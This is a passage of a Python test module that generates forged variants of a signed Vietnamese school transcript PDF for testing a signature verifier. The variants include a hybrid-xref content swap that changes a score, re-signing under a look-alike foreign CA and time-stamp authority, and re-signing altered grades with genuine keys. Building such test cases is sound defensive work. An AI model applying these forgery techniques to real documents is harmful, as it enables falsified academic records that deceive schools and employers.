    content stream with the score changed: a reader that ignores ``/XRefStm`` shows the
    genuine page, one that honours it shows the forged one.
    """
    score = find_score(pdf)
    info = _trailer(pdf)
    prev = _last_startxref(pdf)
    out = bytearray(pdf)
    content_at = len(out)
    out += b"%d 0 obj\n%s\nendobj\n" % (score.content, _forged_content(score))
    stream_number = info["size"]
    stream_at = len(out)
    row = b"\x01" + content_at.to_bytes(4, "big") + b"\x00\x00"
    out += b"%d 0 obj\n%s\nendobj\n" % (
        stream_number,
        _stream(
            row,
            b" /Type /XRef /Size %d /W [1 4 2] /Index [%d 1]" % (stream_number + 1, score.content),
        ),
    )
    at = len(out)
    out += _xref_table({})
    out += b"trailer\n<< /Size %d /Root %d 0 R /ID %s /Prev %d /XRefStm %d >>\n" % (
        stream_number + 1,
        info["root"],
        info["id"],
        prev,
        stream_at,
    )
    out += b"startxref\n%d\n%%%%EOF\n" % at
    return bytes(out)


# -- 8, 9, 10. Re-signed copies and a renewed time-stamp --------------------------------------


def _roles(data: Mapping[str, Any]) -> tuple[Any, ...]:
    from projections.issuance import SignerRole

    reasons = {
        "gvcn": "Giáo viên chủ nhiệm xác nhận học bạ",
        "hieu_truong": "Hiệu trưởng xác nhận và cấp học bạ",
        "seal": "Xác nhận của nhà trường",
    }
    class_name = data["years"][-1]["class_name"]
    roles = []
    for s in data["signers"]:
        title = f"Giáo viên chủ nhiệm lớp {class_name}" if s["role"] == "gvcn" else s["title"]
        roles.append(SignerRole(s["role"], s["staff_code"], (s["name"], title), reasons[s["role"]]))
    return tuple(roles)


def _make(kit: Any, data: Mapping[str, Any], attachments: Mapping[str, bytes]) -> bytes:
    from projections.issuance import Job

    return bytes(
        kit.make(Job(str(data["student"]["code"]), dict(data), dict(attachments), _roles(data)))
    )


def _crls(pki: Any, now: dt.datetime) -> list[bytes]:
    crls = []
    for name in ("root", "so", "school"):
        with pki.authority(name) as authority:
            crls.append(authority.crl(now))
    return crls


def foreign_ca(pdf: bytes, workdir: Path) -> bytes:
    """The transcript rebuilt and signed under another CA with the same names.

    A foreign demo PKI (:func:`signing.pki.create_demo_pki`) is made in ``workdir`` with the
    school's name, code and province and the signers' staff codes and names, so every
    certificate reads like the genuine one; only the keys (and the root they chain to)
    differ. The page is re-rendered from the file's own ``transcript.json`` and attachments
    (unchanged, the ledger proof included) and goes through the issuer's whole sequence
    (:meth:`projections.issuance.SigningKit.make`): three signatures, a DSS with the
    foreign chains and CRLs, and a document time-stamp from a foreign TSA.
    """
    from projections.issuance import SigningKit
    from signing.keys import load_private_key
    from signing.pki import StaffSpec, create_demo_pki, school_code_of
    from signing.tsa import create_demo_tsa, load_demo_tsa

    files = attachments_of(pdf)
    data = json.loads(files["transcript.json"])
    school = _school_of(pdf)
    passphrase = b"the attacker's own passphrase"
    now = dt.datetime.now(dt.UTC)
    staff = [
        StaffSpec(s["staff_code"], s["name"], s["title"])
        for s in data["signers"]
        if s["staff_code"]
    ]
    pki = create_demo_pki(
        workdir / "pki",
        school_name=school["name"],
        school_code=school["code"],
        province=school["province"],
        staff=staff,
        passphrase=passphrase,
        now=now,
    )
    assert school_code_of(pki.seal) == school["code"]
    create_demo_tsa(
        workdir / "pki" / "tsa",
        issuer_cert=pki.so,
        issuer_key=load_private_key(pki.ca_key_path("so"), passphrase),
        passphrase=passphrase,
        now=now,
    )
    tsa = load_demo_tsa(workdir / "pki" / "tsa", passphrase, [pki.so])
    kit = SigningKit(
        pki=pki,
        timestamper=tsa.pyhanko_timestamper(),
        certificates=[pki.root, pki.so, pki.school, tsa.certificate],
        crls=_crls(pki, now),
        font=None,
        location=pki.province,
    )
    return _make(kit, data, files)


def _school_of(pdf: bytes) -> dict[str, str]:
    """The school's name, code and province as the genuine seal certificate names them."""
    from asn1crypto import cms
    from cryptography import x509
    from cryptography.x509.oid import NameOID

    from signing.pki import school_code_of

    sig = signatures(pdf)["DauTruong"]
    der = bytes.fromhex(_der_hex(pdf, sig).decode())
    signed_data = cms.ContentInfo.load(der)["content"]
    serial = signed_data["signer_infos"][0]["sid"].chosen["serial_number"].native
    cert = next(
        x509.load_der_x509_certificate(c.chosen.dump())
        for c in signed_data["certificates"]
        if c.chosen.serial_number == serial
    )

    def attribute(oid: x509.ObjectIdentifier) -> str:
        return str(cert.subject.get_attributes_for_oid(oid)[0].value)

    code = school_code_of(cert)
    assert code is not None
    return {
        "name": attribute(NameOID.ORGANIZATION_NAME),
        "code": code,
        "province": attribute(NameOID.STATE_OR_PROVINCE_NAME),
    }


def resigned_with_changed_score(pdf: bytes, data_dir: Path, *, result_too: bool = False) -> bytes:
    """A transcript the ledger never issued, signed with the demo's own genuine keys.

    ``transcript.json`` (and the XML made from it) has the score of :func:`find_score`
    changed in the subject list the page shows (``years[].subjects``); with
    ``result_too`` also in the year result (``years[].result.subjects``, the copy of the
    ``YearResultRecorded`` event). ``proof.json`` is the genuine one, so the events no
    longer say what the data says. Rendered and signed by the issuer's own sequence
    (:meth:`projections.issuance.SigningKit.make`) with the school's keys and TSA: every
    PDF signature is genuine and trusted (an insider with the keys, or a stolen token).
    """
    from projections.issuance import SigningKit
    from projections.transcript import to_json, to_xml

    files = attachments_of(pdf)
    data = json.loads(files["transcript.json"])
    score = find_score(pdf)
    changed = 0
    for year in data["years"]:
        for subject in year.get("subjects") or []:
            if subject["name"] != SUBJECT or changed:
                continue
            for key in ("term1", "term2", "year", "reassessed"):
                if subject.get(key) == score.old:
                    subject[key] = score.new
                    changed += 1
                    break
        result = (year.get("result") or {}).get("subjects") or {}
        if result_too and SUBJECT in result:
            for key in ("term1", "term2", "year", "reassessed"):
                if result[SUBJECT].get(key) == score.old:
                    result[SUBJECT][key] = score.new
                    changed += 1
                    break
    assert changed == (2 if result_too else 1), "the score is in the data"
    files = {**files, "transcript.json": to_json(data), "transcript.xml": to_xml(data)}
    kit = SigningKit.load(data_dir, [])
    kit.crls = _crls(kit.pki, dt.datetime.now(dt.UTC))
    return _make(kit, data, files)


def extra_document_timestamp(pdf: bytes, data_dir: Path) -> bytes:
    """A legitimate renewal (PAdES B-LTA, ETSI EN 319 142-1 §5.5): one more time-stamp.

    Not an attack: the negative control. A second document time-stamp from the demo's TSA
    is what keeps an archived transcript verifiable; it must not make it fail.
    """
    from signing import pades
    from signing.keys import resolve_passphrase
    from signing.pki import DemoPKI
    from signing.tsa import load_demo_tsa

    passphrase = resolve_passphrase(data_dir, create=False)
    pki = DemoPKI.load(data_dir / "pki", passphrase)
    tsa = load_demo_tsa(data_dir / "pki" / "tsa", passphrase, [pki.so])
    return pades.timestamp_document(
        pdf, timestamper=tsa.pyhanko_timestamper(), field_name="DocTimeStamp2"
    )


#: Builders that need nothing but the genuine bytes, by test id.
BYTE_LEVEL: dict[str, Callable[[bytes], bytes]] = {
    **{
        f"usf-{field}-{variant}": (lambda f, v: lambda pdf: usf(pdf, f, v))(field, variant)
        for field in APPROVALS
        for variant in USF_VARIANTS
    },
    "isa-new-revision": isa_new_revision,
    "isa-after-eof-no-xref": isa_after_eof_no_xref,
    "isa-xref-without-trailer": isa_xref_without_trailer,
    "isa-trailing-garbage": isa_trailing_garbage,
    "swa-byterange-rewritten": swa,
    "swa-byterange-kept": lambda pdf: swa(pdf, rewrite_byte_range=False),
    "hybrid-xref": hybrid_xref,
}
#: Builders that write a regular incremental update with pyHanko, by test id.
OBJECT_LEVEL: dict[str, Callable[[bytes], bytes]] = {
    "shadow-hide": shadow_hide,
    "shadow-replace-font": shadow_replace_font,
    "shadow-hide-and-replace": shadow_hide_and_replace,
    "shadow-form-field": shadow_form_field,
    "eaa-freetext": eaa_annotation,
    "eaa-stamp": lambda pdf: eaa_annotation(pdf, "Stamp"),
    "ssa-unsigned": ssa_unsigned,
}
